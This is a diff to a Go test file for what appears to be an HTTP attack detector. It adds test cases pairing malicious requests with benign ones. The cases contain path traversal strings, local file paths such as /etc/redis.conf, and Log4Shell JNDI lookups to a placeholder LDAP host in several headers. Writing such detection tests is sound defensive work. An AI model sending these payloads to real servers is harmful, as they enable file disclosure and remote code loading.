@@ -40,6 +40,7 @@ func TestTraversalFamilyBoundaries(t *testing.T) {
 		// The raw query as a whole and skipped headers.
 		{"traversal-raw-request", get("/p?f=0x2f..0x5cx"), get("/p?f=0x2f0x5cx")},
 		{"traversal-raw-request", get("/p", "Accept-Language", "../../x"), get("/p", "Accept-Language", "en-US,en;q=0.9")},
+		{"traversal-raw-request", get("/p", "Host", "localhost/../../x"), get("/p", "Host", "a.b.example.com")},
 		// OS files in parameters.
 		{"lfi-os-directory", get("/p?f=/etc/redis.conf"), get("/p?f=/api/etc")},
 		{"lfi-os-directory", get("/p?f=etc/issue"), get("/p?f=fetch/issue")},
@@ -97,6 +98,7 @@ func TestLog4ShellFamilyBoundaries(t *testing.T) {
 		{"log4shell-lookup-opener", get("/p", "Cookie", "${jndi:ldap://x}=1"), get("/p", "Cookie", "jndi=1")},
 		{"log4shell-raw-request", get("/p?q=&dollar;{jndi:ldap://x}"), get("/p?q=&dollar=1")},
 		{"log4shell-raw-request", get("/p", "Accept", "${jndi:ldap://x/a}"), get("/p", "Accept", "application/json")},
+		{"log4shell-raw-request", get("/p", "Host", "${jndi:ldap://x/a}"), get("/p", "Host", "api.example.com:8443")},
 		{"log4shell-raw-request", get("/p", "Authorization", "Bearer ${jndi:ldap://x/a}"), get("/p", "Authorization", "Bearer abc.def.ghi")},
 	})
 }
